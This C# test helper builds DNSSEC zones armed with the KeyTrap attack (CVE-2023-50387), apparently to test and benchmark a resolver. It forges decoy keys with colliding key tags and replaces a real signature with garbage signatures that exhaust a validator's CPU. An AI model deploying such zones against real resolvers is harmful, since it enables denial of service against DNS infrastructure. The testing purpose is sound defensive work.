// KeyTrapZone: arms a signed zone as a KeyTrap attacker would (CVE-2023-50387) — decoy DNSKEYs
// published beside the real keys (signed into the DNSKEY RRset by the KSK, so the zone's keys still
// validate) and one RRset whose real RRSIG is replaced by garbage signatures naming those decoys:
// a group of keys sharing one key tag (each signature makes a validator try several keys) and keys
// with tags of their own (each signature costs one more key import and verification). Every other
// name of the zone stays correctly signed. Used by the resolver tests, the conformance generator
// and the KeyTrap benchmark.
using Resolver.Protocol;
using Resolver.Protocol.Records;

namespace Resolver.Testing.Signing;

/// <summary>Builds KeyTrap decoys into a signed zone.</summary>
public static class KeyTrapZone
{
    /// <summary>
    /// <paramref name="zone"/> with RSA/SHA-256 decoy keys added to its DNSKEY RRset (re-signed)
    /// and the RRSIGs over <paramref name="owner"/>/<paramref name="type"/> replaced by garbage:
    /// <paramref name="collidingSignatures"/> naming the tag that <paramref name="collidingKeys"/>
    /// decoys share, then one per each of the <paramref name="distinctKeys"/> decoys with a tag of its own.
    /// </summary>
    /// <param name="rsaBits">Modulus size of the decoy keys (0: the signer's default, 1024); a larger key costs more to import.</param>
    public static SignedZone Arm(SignedZone zone, DnsName owner, RrType type, int collidingKeys, int collidingSignatures, int distinctKeys, int rsaBits = 0)
    {
        ArgumentNullException.ThrowIfNull(zone);
        ArgumentNullException.ThrowIfNull(owner);
        var taken = new HashSet<ushort>(zone.Keys.Select(k => k.KeyTag));
        DnskeyData decoyBase = DecoyKey(zone.Origin, rsaBits, 0);
        for (int salt = 1; taken.Contains(decoyBase.KeyTag); salt++)
        {
            decoyBase = DecoyKey(zone.Origin, rsaBits, salt);
        }

        ushort sharedTag = decoyBase.KeyTag;
        taken.Add(sharedTag);
        List<DnskeyData> colliding = [.. CollidingKeys(decoyBase, collidingKeys)];
        List<DnskeyData> distinct = [.. Distinct(decoyBase, distinctKeys, taken)];

        // Decoys first, so a validator that tries keys in order meets them before the real ones.
        IEnumerable<ResourceRecord> decoys = colliding.Concat(distinct).Select(k => new ResourceRecord(zone.Origin, zone.Options.DnskeyTtl, k));
        SignedZone armed = zone.WithRecords(decoys.Concat(zone.Records)).ResignRrSet(zone.Origin, RrType.DNSKEY);

        RrsigData real = armed.GetSignatures(owner, type)[0];
        var records = armed.Records.Where(r => !(r.Name == owner && r.Data is RrsigData s && s.TypeCovered == type)).ToList();
        uint ttl = armed.Records.First(r => r.Name == owner && r.Type == type).Ttl;
        int modulusLength = decoyBase.PublicKey.Length - 4;   // RFC 3110 §2: 1 length byte, 3 exponent bytes, the modulus
        int n = 0;
        for (int i = 0; i < collidingSignatures; i++)
        {
            records.Add(new ResourceRecord(owner, ttl, Garbage(real, sharedTag, modulusLength, n++)));
        }

        foreach (DnskeyData key in distinct)
        {
            records.Add(new ResourceRecord(owner, ttl, Garbage(real, key.KeyTag, modulusLength, n++)));
        }

        return armed.WithRecords(records);
    }

    // An RSA/SHA-256 public key (RFC 3110: exponent 65537, a modulus of rsaBits bits) made from the
    // zone name, so generated zones are the same in every run: an attacker's decoys need no private
    // key, and a validator imports and uses them like any key.
    private static DnskeyData DecoyKey(DnsName origin, int rsaBits, int salt)
    {
        int length = (rsaBits == 0 ? SigningKey.DefaultRsaBits : rsaBits) / 8;
        byte[] key = new byte[4 + length];
        key[0] = 3;
        key[1] = 1;
        key[3] = 1;
        byte[] seed = System.Text.Encoding.ASCII.GetBytes($"{origin} decoy {salt}");
        for (int at = 0; at < length; at += 64)
        {
            byte[] block = System.Security.Cryptography.SHA512.HashData([.. seed, .. BitConverter.GetBytes(at)]);
            block.AsSpan(0, Math.Min(64, length - at)).CopyTo(key.AsSpan(4 + at));
        }

        key[4] |= 0x80;    // the full modulus size
        key[^1] |= 1;      // odd, as an RSA modulus is
        return new DnskeyData(SigningKey.ZskFlags, 3, DnssecAlgorithm.RsaSha256, key);
    }

    // An RSA/SHA-256 signature with the real one's fields, naming keyTag, as long as the decoys'
    // modulus and below it (so a validator does the whole RSA operation), that verifies with no key.
    private static RrsigData Garbage(RrsigData real, ushort keyTag, int modulusLength, int index)
    {
        byte[] garbage = new byte[modulusLength];
        for (int at = 0; at < modulusLength; at += 64)
        {
            byte[] block = System.Security.Cryptography.SHA512.HashData(BitConverter.GetBytes((index * 1000) + at));
            block.AsSpan(0, Math.Min(64, modulusLength - at)).CopyTo(garbage.AsSpan(at));
        }

        garbage[0] = 0x01;
        return new RrsigData(real.TypeCovered, DnssecAlgorithm.RsaSha256, real.Labels, real.OriginalTtl, real.SignatureExpiration,
            real.SignatureInception, keyTag, real.SignerName, garbage);
    }

    /// <summary>
    /// <paramref name="count"/> keys with the flags, algorithm and key tag of <paramref name="key"/>
    /// and other key material (RSA: bytes 8–11 of the key field must be modulus): RFC 4034 Appendix
    /// B's tag is a ones'-complement-like sum of 16-bit words, so adding d to one word and taking it
    /// from the next keeps it.
    /// </summary>
    public static IEnumerable<DnskeyData> CollidingKeys(DnskeyData key, int count)
    {
        ArgumentNullException.ThrowIfNull(key);
        byte[] original = key.PublicKey.ToArray();
        int made = 0;
        for (int d = 1; made < count; d++)
        {
            byte[] pk = (byte[])original.Clone();
            int a = (pk[8] << 8) | pk[9];
            int b = (pk[10] << 8) | pk[11];
            int da = a + d <= 0xFFFF ? d : -d;
            if (b - da is < 0 or > 0xFFFF)
            {
                continue;
            }

            pk[8] = (byte)((a + da) >> 8);
            pk[9] = (byte)(a + da);
            pk[10] = (byte)((b - da) >> 8);
            pk[11] = (byte)(b - da);
            var decoy = new DnskeyData(key.Flags, key.Protocol, key.Algorithm, pk);
            if (decoy.KeyTag == key.KeyTag)
            {
                made++;
                yield return decoy;
            }
        }
    }

    // Keys of the same shape with tags of their own, none in `taken` (which they join).
    private static IEnumerable<DnskeyData> Distinct(DnskeyData key, int count, HashSet<ushort> taken)
    {
        byte[] original = key.PublicKey.ToArray();
        int made = 0;
        for (int i = 1; made < count; i++)
        {
            byte[] pk = (byte[])original.Clone();
            pk[20 + (i / 256 % 64)] ^= (byte)(i % 256 == 0 ? 0x80 : i % 256);
            var decoy = new DnskeyData(key.Flags, key.Protocol, key.Algorithm, pk);
            if (taken.Add(decoy.KeyTag))
            {
                made++;
                yield return decoy;
            }
        }
    }
}
